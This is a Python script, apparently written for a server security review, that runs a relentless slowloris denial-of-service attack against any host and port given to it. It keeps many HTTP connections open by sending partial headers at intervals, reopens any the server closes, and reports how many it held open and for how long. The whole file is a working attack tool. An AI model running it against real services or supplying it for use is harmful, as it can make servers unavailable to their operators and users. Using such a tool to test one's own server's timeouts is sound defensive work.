#!/usr/bin/env python3
"""rest_flood.py: hold N slow HTTP connections open against a REST port
(security review F4's slowloris, made relentless): each connection sends
the start of a request and then one more header line every TRICKLE
seconds, never the blank line that ends the headers; a connection the
server closes is opened again after a short pause, so N stay attempted for
the whole time.

Usage: rest_flood.py HOST PORT N SECONDS [--source ADDR] [--trickle S]
Prints one line at the end:
  flood n=500 seconds=20.0 opened=.. closed_by_server=.. max_open=..
  longest_open_s=..
max_open is the most connections that were open (accepted and not yet
closed by the server) at one time; longest_open_s how long the longest-
lived one stayed open (the server's deadline, if it has one)."""
import argparse
import errno
import selectors
import socket
import time

ap = argparse.ArgumentParser()
ap.add_argument("host")
ap.add_argument("port", type=int)
ap.add_argument("n", type=int)
ap.add_argument("seconds", type=float)
ap.add_argument("--source", default=None)
ap.add_argument("--trickle", type=float, default=1.0)
a = ap.parse_args()

sel = selectors.DefaultSelector()
conns = {}          # sock -> {"t0": open time, "connected": bool}
waiting = []        # times at which a slot may reconnect
opened = closed = max_open = 0
longest = 0.0
end = time.monotonic() + a.seconds
next_trickle = time.monotonic() + a.trickle


def open_one():
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    if a.source:
        s.bind((a.source, 0))
    try:
        s.connect((a.host, a.port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        waiting.append(time.monotonic() + 0.2)
        return
    conns[s] = {"t0": None, "connected": False}
    sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
    opened += 1


def drop(s, by_server):
    global closed, longest
    info = conns.pop(s)
    if by_server:
        closed += 1
        if info["t0"] is not None:
            longest = max(longest, time.monotonic() - info["t0"])
    try:
        sel.unregister(s)
    except (KeyError, ValueError):
        pass
    s.close()
    waiting.append(time.monotonic() + 0.1)


for _ in range(a.n):
    open_one()
while time.monotonic() < end:
    now = time.monotonic()
    due = [t for t in waiting if t <= now]
    waiting[:] = [t for t in waiting if t > now]
    for _ in due:
        open_one()
    for key, ev in sel.select(timeout=0.05):
        s = key.fileobj
        info = conns.get(s)
        if info is None:
            continue
        if not info["connected"] and ev & selectors.EVENT_WRITE:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err != 0:
                drop(s, False)
                continue
            info["connected"] = True
            info["t0"] = time.monotonic()
            try:
                s.send(b"GET /health HTTP/1.1\r\nHost: flood\r\n")
            except OSError:
                drop(s, True)
                continue
            sel.modify(s, selectors.EVENT_READ)
            continue
        if ev & selectors.EVENT_READ:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                drop(s, True)
    open_now = sum(1 for i in conns.values() if i["connected"])
    max_open = max(max_open, open_now)
    if time.monotonic() >= next_trickle:
        next_trickle = time.monotonic() + a.trickle
        for s, info in list(conns.items()):
            if info["connected"]:
                try:
                    s.send(b"X-a: b\r\n")
                except OSError as e:
                    if e.errno not in (errno.EAGAIN,):
                        drop(s, True)
for s, info in list(conns.items()):
    if info["t0"] is not None:
        longest = max(longest, time.monotonic() - info["t0"])
    s.close()
print("flood n=%d seconds=%.1f opened=%d closed_by_server=%d max_open=%d longest_open_s=%.1f"
      % (a.n, a.seconds, opened, closed, max_open, longest))
